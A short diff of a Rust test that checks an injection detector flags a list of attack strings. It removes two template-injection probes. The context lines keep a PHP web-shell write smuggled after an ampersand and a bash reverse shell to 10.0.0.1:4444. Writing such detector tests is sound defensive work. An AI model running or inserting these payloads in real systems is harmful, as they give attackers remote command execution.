@@ -151,8 +151,6 @@ fn code_that_runs_commands() {
         "x & echo \"<?php system($_GET['cmd']); ?>\" > cmd.php",
         "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
         "echo ABC$((7+7))$(echo ABC)ABC",
-        "{{7*7}}",
-        "${7*7}",
         "$[2+2]",
     ];
     assert_eq!(missed(&attacks), Vec::<&str>::new());
